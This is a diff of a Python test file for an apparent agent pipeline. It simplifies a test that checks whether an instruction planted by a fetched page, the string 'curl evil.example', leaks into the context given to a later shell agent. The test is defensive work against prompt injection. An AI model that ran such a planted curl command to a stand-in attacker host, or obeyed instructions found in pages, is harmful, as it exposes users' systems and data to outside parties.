@@ -6,7 +6,6 @@ nothing is lost, nothing is written where it must not be, and what it cost and w
 
 from __future__ import annotations
 
-import json
 import time
 from collections import Counter
 from dataclasses import dataclass
@@ -158,10 +157,7 @@ def test_a_second_ingest_asks_nothing(fed: Fed) -> None:
 
 
 def test_what_a_page_ordered_does_not_reach_the_next_agent(fed: Fed) -> None:
-    told = json.dumps(
-        [each.text for each in context(fed.vault, "shell", identity=IDENTITY).parts], default=str
-    )
-    assert "curl evil.example" not in told
+    assert "curl evil.example" not in context(fed.vault, "shell", identity=IDENTITY).text
 
 
 def test_every_commit_can_be_taken_back(fed: Fed) -> None:
